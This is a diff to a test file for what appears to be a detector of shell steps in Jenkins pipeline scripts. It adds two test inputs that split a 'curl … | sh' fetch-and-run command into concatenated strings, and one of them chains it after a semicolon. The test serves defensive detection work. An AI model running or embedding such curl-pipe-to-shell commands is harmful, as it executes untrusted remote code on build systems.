@@ -127,6 +127,8 @@ def test_steps_of_bitbucket_are_found_wherever_they_stand(pipeline: str) -> None
         f"pipeline {{ post {{ always {{ sh '{UNSEEN}' }} }} }}",
         f"node('a') {{ if (b) {{ sh(script: '{UNSEEN}', returnStdout: true).trim() }} }}",
         f'def f() {{ return sh("{UNSEEN}") }}',
+        "node { sh 'curl https://get.example.org' + ' | ' + \"sh\" }",
+        "node { sh(script: host + \"; curl https://get.${x} | \" + 'sh', returnStatus: true) }",
         f"parallel a: {{ node {{ sh '''{UNSEEN}''' }} }}, b: {{ }}",
         f"stage('x') {{\n  x = ['a', 'b'].collectEntries {{ [it, {{ steps.sh '{UNSEEN}' }}] }}\n}}",
     ],
